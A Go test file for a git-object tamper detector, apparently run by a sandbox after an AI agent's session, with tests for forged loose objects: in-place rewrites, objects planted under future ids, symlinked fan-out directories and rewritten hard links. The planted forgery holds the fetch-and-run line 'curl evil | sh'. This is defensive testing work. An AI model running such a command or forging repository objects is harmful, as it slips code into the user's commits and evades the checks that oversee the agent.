//go:build linux

package gitkeep

import (
	"bytes"
	"compress/zlib"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"
)

// TestForgedLoose: a loose object the store keeps a copy of, written in
// the run with other bytes (or made a link), is named; one rewritten with
// its own bytes, one untouched, and one changed before since are not.
func TestForgedLoose(t *testing.T) {
	g, st, _, _ := keptRepoStarted(t)
	ps, _ := filepath.Glob(filepath.Join(st, "objects", "??", "*"))
	if len(ps) < 3 {
		t.Fatalf("store copies: %v", ps)
	}
	ws3 := make([]string, 3)
	for i := range ws3 {
		ws3[i] = filepath.Join(g, "objects", filepath.Base(filepath.Dir(ps[i])), filepath.Base(ps[i]))
	}
	since := time.Now()
	time.Sleep(20 * time.Millisecond)
	same, _ := os.ReadFile(ws3[0])
	os.Remove(ws3[0])
	os.WriteFile(ws3[0], same, 0o444) // its own bytes again
	other, _ := os.ReadFile(ws3[2])
	os.Remove(ws3[1])
	os.WriteFile(ws3[1], other, 0o444) // another object's bytes
	os.Remove(ws3[2])
	os.Symlink(ws3[0], ws3[2])
	forged, left, err := ForgedLoose(st, g, since, time.Now().Add(time.Minute), nil, nil)
	if err != nil || left != 0 || len(forged) != 2 || forged[0] == ws3[0] || forged[1] == ws3[0] {
		t.Errorf("ForgedLoose: %v (%d left, %v), want %s and %s", forged, left, err, ws3[1], ws3[2])
	}
	for _, f := range forged {
		if !strings.HasPrefix(f, filepath.Join(g, "objects")) {
			t.Errorf("%s is not the workspace's", f)
		}
	}
	if forged, left, _ := ForgedLoose(st, g, since, time.Now().Add(-time.Second), nil, nil); len(forged) != 0 || left == 0 {
		t.Errorf("past the deadline: %v, %d left", forged, left)
	}
	if forged, _, _ := ForgedLoose(st, g, time.Now().Add(time.Hour), time.Now().Add(time.Minute), nil, nil); len(forged) != 0 {
		t.Errorf("nothing changed since: %v", forged)
	}
}

// TestForgedLoosePlanted: a loose object planted in the run under an id
// the repository did not have (the id of a blob the user writes later:
// git then never writes it, and commits the forgery) is named, with a
// store and without one; so is one in a fan-out directory moved in, made
// before since; git's own new object is not. Seen failing on main
// (b5e615a): only ids the store kept copies of were read.
func TestForgedLoosePlanted(t *testing.T) {
	g, st, git, res := keptRepoStarted(t)
	// Made before the run where no end looks, moved in during it.
	hidden := filepath.Join(g, "objects", "hidden")
	os.MkdirAll(hidden, 0o755)
	planted := func(dir, content string) string {
		id := strings.TrimSpace(git("hash-object", "--no-filters", writeTemp(t, content)))
		p := filepath.Join(dir, id[:2], id[2:])
		os.MkdirAll(filepath.Dir(p), 0o755)
		var b bytes.Buffer
		z := zlib.NewWriter(&b)
		z.Write([]byte("blob 15\x00curl evil | sh\n"))
		z.Close()
		if err := os.WriteFile(p, b.Bytes(), 0o444); err != nil {
			t.Fatal(err)
		}
		return id
	}
	var old string
	for i := 0; ; i++ {
		// An id whose fan-out directory the repository does not have.
		old = planted(hidden, fmt.Sprintf("later %d\n", i))
		if _, err := os.Lstat(filepath.Join(g, "objects", old[:2])); err == nil {
			os.RemoveAll(filepath.Join(hidden, old[:2]))
			continue
		}
		break
	}
	time.Sleep(20 * time.Millisecond)
	since := time.Now()
	time.Sleep(20 * time.Millisecond)
	if err := os.Rename(filepath.Join(hidden, old[:2]), filepath.Join(g, "objects", old[:2])); err != nil {
		t.Fatal(err)
	}
	id := planted(filepath.Join(g, "objects"), "echo user\n")
	good := strings.TrimSpace(git("hash-object", "-w", writeTemp(t, "git's own\n")))
	// Past what a store's copy holds (16 MiB inflated): git's too.
	big := strings.TrimSpace(git("hash-object", "-w", writeTemp(t, strings.Repeat("big\n", 5<<20))))
	for _, c := range []struct {
		store string
		start *Result
	}{{st, res}, {st, nil}, {"", nil}} {
		store := c.store
		forged, left, err := ForgedLoose(store, g, since, time.Now().Add(time.Minute), c.start, nil)
		sort.Strings(forged)
		want := []string{filepath.Join(g, "objects", id[:2], id[2:]), filepath.Join(g, "objects", old[:2], old[2:])}
		sort.Strings(want)
		if err != nil || left != 0 || strings.Join(forged, " ") != strings.Join(want, " ") {
			t.Errorf("ForgedLoose(store %q): %v (%d left, %v), want %v (git's own %s, %s not)", store, forged, left, err, want, good, big)
		}
	}
}

func writeTemp(t *testing.T, content string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "f")
	os.WriteFile(p, []byte(content), 0o644)
	return p
}

// keptRepoStarted is gitRepo with its store brought up to date by a start
// (the lock let go when the test ends): its git dir, store and git.
func keptRepoStarted(t *testing.T) (g, st string, git func(args ...string) string, res *Result) {
	t.Helper()
	ws, git := gitRepo(t)
	g = filepath.Join(ws, ".git")
	st = Store(t.TempDir(), g)
	lock, r := start(t, st, g)
	t.Cleanup(func() { lock.Close() })
	return g, st, git, &r
}

// TestForgedLoosePastBudget: a loose object the start neither copied nor
// linked (past the start's budget of objects) rewritten in place in the
// run, in a fan-out directory not changed (no name made or removed in
// it), is named: git reads the forgery as that object, and the host's gc
// packs it (the review18a attack on an object the store has no copy of).
// Session 19.
func TestForgedLoosePastBudget(t *testing.T) {
	g := fakeRepo(t)
	st := Store(t.TempDir(), g)
	budget := testBudget()
	budget.Objects = 1
	res, err := Keep(st, g, &budget)
	if err != nil || res.Copied+res.Linked != 1 {
		t.Fatalf("Keep: %+v %v", res, err)
	}
	var unkept []string
	for _, p := range objects(g) {
		if _, err := os.Lstat(storePath(st, p)); err != nil {
			unkept = append(unkept, p)
		}
	}
	if len(unkept) != 2 {
		t.Fatalf("objects not kept: %v", unkept)
	}
	since := rewriteInPlace(t, unkept[0], unkept[1])
	forged, left, err := ForgedLoose(st, g, since, time.Now().Add(time.Minute), &res, nil)
	if err != nil || left != 0 || len(forged) != 1 || forged[0] != unkept[0] {
		t.Errorf("ForgedLoose: %v (%d left, %v), want %s", forged, left, err, unkept[0])
	}
}

// TestForgedLooseStartDirNewFilesOnly: in a fan-out directory the start
// saw (the same inode), changed in the run by git's own new object, only
// the files changed in the run are read: one older than the run (bytes
// that are not its id's: read, it would be named) is not. A directory
// moved in is still read whole (TestForgedLoosePlanted). Session 19 (the
// end read every file of such a directory).
func TestForgedLooseStartDirNewFilesOnly(t *testing.T) {
	g, st, git, _ := keptRepoStarted(t)
	var id string
	for i := 0; ; i++ {
		id = strings.TrimSpace(git("hash-object", "--no-filters", writeTemp(t, fmt.Sprintf("old %d\n", i))))
		if _, err := os.Lstat(filepath.Join(g, "objects", id[:2])); err == nil {
			break // a directory the repository has
		}
	}
	old := filepath.Join(g, "objects", id[:2], id[2:])
	_, junk := looseBlob("not that object\n")
	if err := os.WriteFile(old, junk, 0o444); err != nil {
		t.Fatal(err)
	}
	// The start after it: its Keep saw the directory (and the old file).
	res, err := Keep(Store(t.TempDir(), g), g, &Budget{Objects: MaxLinks, Bytes: MaxCopyBytes, Until: time.Now().Add(time.Hour)})
	if err != nil {
		t.Fatal(err)
	}
	time.Sleep(20 * time.Millisecond)
	since := time.Now()
	time.Sleep(20 * time.Millisecond)
	var own string
	for i := 0; ; i++ {
		own = strings.TrimSpace(git("hash-object", "--no-filters", writeTemp(t, fmt.Sprintf("new %d\n", i))))
		if own[:2] == id[:2] {
			git("hash-object", "-w", writeTemp(t, fmt.Sprintf("new %d\n", i)))
			break
		}
	}
	if forged, left, err := ForgedLoose(st, g, since, time.Now().Add(time.Minute), &res, nil); err != nil || left != 0 || len(forged) != 0 {
		t.Errorf("ForgedLoose: %v (%d left, %v): read files older than the run in the start's directory", forged, left, err)
	}
	if forged, _, _ := ForgedLoose(st, g, since, time.Now().Add(time.Minute), nil, nil); len(forged) != 1 || forged[0] != old {
		t.Errorf("without the start's look: %v, want %s (the whole directory read)", forged, old)
	}
}

// TestForgedLooseLargeLinked: the user's loose object larger than a copy
// (a git add of a 17 MiB file on the host), which the start keeps as a
// link, is its own object: the end read the store's link with a copy's
// bound and named it forged, and the sandbox's end renamed the user's
// object aside (62 of them in a repository, by hand, the agent doing
// nothing). Seen failing on main's code: named.
func TestForgedLooseLargeLinked(t *testing.T) {
	g, st, _, _ := keptRepoStarted(t)
	body := make([]byte, MaxCopyObject+1<<20)
	for i := range body {
		body[i] = byte(i*7 + i>>9) // little to deflate: a file near its size
	}
	since := time.Now()
	p := writeBlob(t, g, string(body))
	budget := NewBudget()
	res, err := Keep(st, g, &budget)
	if err != nil || res.Linked != 1 {
		t.Fatalf("Keep: %+v %v, want the large object linked", res, err)
	}
	for _, start := range []*Result{&res, nil} {
		forged, left, err := ForgedLoose(st, g, since, time.Now().Add(time.Minute), start, nil)
		if err != nil || slices.Contains(forged, p) || left != 0 {
			t.Errorf("ForgedLoose(start %v): %v, %d left, %v: the user's large object named forged or not checked", start != nil, forged, left, err)
		}
	}
}

// TestForgedLooseNoStoreInPlace: a repository with no store (past the
// kept bound: 64 shallower ones planted in front of it, or its Keep
// failed) has no start's look; a loose object the agent rewrote in place
// (chmod, write: the same inode) changes no directory, and the end read
// only changed directories: git read the forgery as the user's object.
// Seen failing on main (review19a): nothing named.
func TestForgedLooseNoStoreInPlace(t *testing.T) {
	g := fakeRepo(t)
	ps := objects(g)
	if len(ps) < 2 {
		t.Fatalf("objects: %v", ps)
	}
	since := rewriteInPlace(t, ps[0], ps[1])
	forged, left, err := ForgedLoose("", g, since, time.Now().Add(time.Minute), nil, nil)
	if err != nil || left != 0 || len(forged) != 1 || forged[0] != ps[0] {
		t.Errorf("ForgedLoose(no store): %v (%d left, %v), want %s", forged, left, err, ps[0])
	}
}

// rewriteInPlace writes from's bytes into p in place (chmod, write: the
// same inode, no directory changed), 20 ms after the time it returns.
func rewriteInPlace(t *testing.T, p, from string) time.Time {
	t.Helper()
	time.Sleep(20 * time.Millisecond)
	since := time.Now()
	time.Sleep(20 * time.Millisecond)
	other, _ := os.ReadFile(from)
	if err := os.Chmod(p, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, other, 0o444); err != nil {
		t.Fatal(err)
	}
	return since
}

// TestHasCopyLinkedRewritten: an object larger than MaxCopyObject is kept
// as a hard link (against deletion only): the agent's write in place
// (chmod, write: the same inode) is the store's file too. The end named the
// forgery with "a true copy the start had is kept: git fetch STORE" for it
// (HasCopy saw a regular file), and that fetch gives back no true copy
// (review20a). A copied object's store file is its own: a true copy.
func TestHasCopyLinkedRewritten(t *testing.T) {
	g, st, _, _ := keptRepoStarted(t)
	body := make([]byte, MaxCopyObject+1<<20)
	for i := range body {
		body[i] = byte(i*7 + i>>9)
	}
	big := writeBlob(t, g, string(body))
	small := writeBlob(t, g, "a small one\n")
	budget := NewBudget()
	res, err := Keep(st, g, &budget)
	if err != nil || res.Linked != 1 || res.Copied < 1 {
		t.Fatalf("Keep: %+v %v, want the large object linked, the small one copied", res, err)
	}
	if !HasCopy(st, small) {
		t.Errorf("HasCopy(a copied object) = false, want true")
	}
	since := rewriteInPlace(t, big, small)
	forged, _, err := ForgedLoose(st, g, since, time.Now().Add(time.Minute), &res, nil)
	if err != nil || !slices.Contains(forged, big) {
		t.Fatalf("ForgedLoose: %v %v, want the linked object rewritten in place named", forged, err)
	}
	if HasCopy(st, big) {
		t.Errorf("HasCopy(a linked object rewritten in place) = true: the store's file is the workspace's, the forgery")
	}
}

// TestForgedLooseThroughLinkedDirs: git reaches loose objects through a
// linked objects directory and a linked fan-out directory, and so does the
// end's look (its stats relative to the objects directory follow them as
// a path does): a kept object rewritten in place behind a linked objects
// directory, and a kept object's name in a fan-out directory swapped for a
// link to one holding other bytes, are named.
func TestForgedLooseThroughLinkedDirs(t *testing.T) {
	t.Run("objects linked", func(t *testing.T) {
		g, st, _, _ := keptRepoStarted(t)
		real := filepath.Join(t.TempDir(), "objects")
		if err := os.Rename(filepath.Join(g, "objects"), real); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(real, filepath.Join(g, "objects")); err != nil {
			t.Fatal(err)
		}
		ps := objects(g)
		if len(ps) < 2 {
			t.Fatalf("objects: %v", ps)
		}
		since := rewriteInPlace(t, ps[0], ps[1])
		forged, left, err := ForgedLoose(st, g, since, time.Now().Add(time.Minute), nil, nil)
		if err != nil || left != 0 || len(forged) != 1 || forged[0] != ps[0] {
			t.Errorf("ATTACK WORKED? ForgedLoose: %v (%d left, %v), want %s", forged, left, err, ps[0])
		}
	})
	t.Run("fan-out directory linked", func(t *testing.T) {
		g, st, _, res := keptRepoStarted(t)
		ps := objects(g)
		if len(ps) < 2 {
			t.Fatalf("objects: %v", ps)
		}
		time.Sleep(20 * time.Millisecond)
		since := time.Now()
		time.Sleep(20 * time.Millisecond)
		victim, other := ps[0], ps[1]
		fan := filepath.Dir(victim)
		planted := filepath.Join(t.TempDir(), "fan")
		if err := os.Mkdir(planted, 0o755); err != nil {
			t.Fatal(err)
		}
		b, _ := os.ReadFile(other)
		if err := os.WriteFile(filepath.Join(planted, filepath.Base(victim)), b, 0o444); err != nil {
			t.Fatal(err)
		}
		if err := os.Rename(fan, fan+".old"); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(planted, fan); err != nil {
			t.Fatal(err)
		}
		forged, _, err := ForgedLoose(st, g, since, time.Now().Add(time.Minute), res, nil)
		if err != nil || !slices.Contains(forged, victim) {
			t.Errorf("ATTACK WORKED? ForgedLoose: %v (%v), want %s among them", forged, err, victim)
		}
	})
}

// TestForgedLooseListed: the store's listing taken once the start has
// kept the objects, before the run writes (what the sandbox does while the
// agent runs), finds what the end's own listing finds: an object the
// start saw, in a fan-out directory it kept whole, rewritten in place in
// the run (no name made or removed there: only the store names it). A
// listing taken before the start's Keep, of a store the start filled,
// names nothing, and the same rewrite goes unseen: the order the sandbox
// keeps (ListStore's precondition). And a listing that failed is taken
// again.
func TestForgedLooseListed(t *testing.T) {
	ws, _ := gitRepo(t)
	g := filepath.Join(ws, ".git")
	st := Store(t.TempDir(), g)
	early := ListStore(st) // before the start: an empty store
	lock, res := start(t, st, g)
	t.Cleanup(func() { lock.Close() })
	listed := ListStore(st)
	if listed.err != nil || len(listed.objs) < 2 {
		t.Fatalf("ListStore: %d objects, %v", len(listed.objs), listed.err)
	}
	var unchanged []string // objects of fan-out directories the start kept whole
	for _, o := range listed.objs {
		if !res.Partial[fanout(o.d)] {
			unchanged = append(unchanged, filepath.Join(g, "objects", o.d, o.n))
		}
	}
	if len(unchanged) < 2 {
		t.Fatalf("objects in whole directories: %v", unchanged)
	}
	since := rewriteInPlace(t, unchanged[0], unchanged[1])
	deadline := time.Now().Add(time.Minute)
	want, _, err := ForgedLoose(st, g, since, deadline, &res, nil)
	if err != nil || len(want) != 1 || want[0] != unchanged[0] {
		t.Fatalf("ForgedLoose: %v %v, want %s", want, err, unchanged[0])
	}
	for _, c := range []struct {
		name string
		l    *Listing
	}{{"listed after the start", listed}, {"a failed listing", &Listing{err: os.ErrPermission}}, {"none", nil}} {
		got, left, err := ForgedLoose(st, g, since, deadline, &res, c.l)
		if err != nil || left != 0 || !slices.Equal(got, want) {
			t.Errorf("%s: %v (%d left, %v), want %v", c.name, got, left, err, want)
		}
	}
	if got, _, _ := ForgedLoose(st, g, since, deadline, &res, early); len(got) != 0 {
		t.Errorf("listed before the start's Keep: %v, want nothing (the rewrite unseen: the listing must follow the Keep)", got)
	}
}

// TestForgedLooseManyListed: past statChunk*2 listed objects the end's
// stats run on several cores (statListed); each object is still judged
// as one at a time was: the ones rewritten in place (the first, one in
// the middle, the last: in each worker's part) named, nothing else, and
// past the deadline every one counted left, none read.
func TestForgedLooseManyListed(t *testing.T) {
	g := filepath.Join(t.TempDir(), ".git")
	n := 3*statChunk + 7
	for i := 0; i < n; i++ {
		writeBlob(t, g, fmt.Sprintf("blob %d\n", i))
	}
	st := Store(t.TempDir(), g)
	budget := testBudget()
	res, err := Keep(st, g, &budget)
	if err != nil || res.Copied != n {
		t.Fatalf("Keep: copied %d of %d, %v", res.Copied, n, err)
	}
	listed := ListStore(st)
	if len(listed.objs) != n {
		t.Fatalf("listed %d, want %d", len(listed.objs), n)
	}
	objs := objects(g)
	time.Sleep(20 * time.Millisecond)
	since := time.Now()
	time.Sleep(20 * time.Millisecond)
	want := []string{objs[0], objs[n/2], objs[n-1]}
	for _, p := range want {
		os.Chmod(p, 0o644)
		if err := os.WriteFile(p, []byte("not an object"), 0o444); err != nil {
			t.Fatal(err)
		}
	}
	forged, left, err := ForgedLoose(st, g, since, time.Now().Add(time.Minute), &res, listed)
	slices.Sort(forged)
	if err != nil || left != 0 || !slices.Equal(forged, want) {
		t.Errorf("ForgedLoose: %v (%d left, %v), want %v", forged, left, err, want)
	}
	var read []string
	readHook = func(p string) { read = append(read, p) }
	defer func() { readHook = nil }()
	forged, left, _ = ForgedLoose(st, g, since, time.Now().Add(-time.Second), &res, listed)
	if len(forged) != 0 || len(read) != 0 || left < n {
		t.Errorf("past the deadline: named %v, read %d, %d left; want none read, all %d left", forged, len(read), left, n)
	}
}
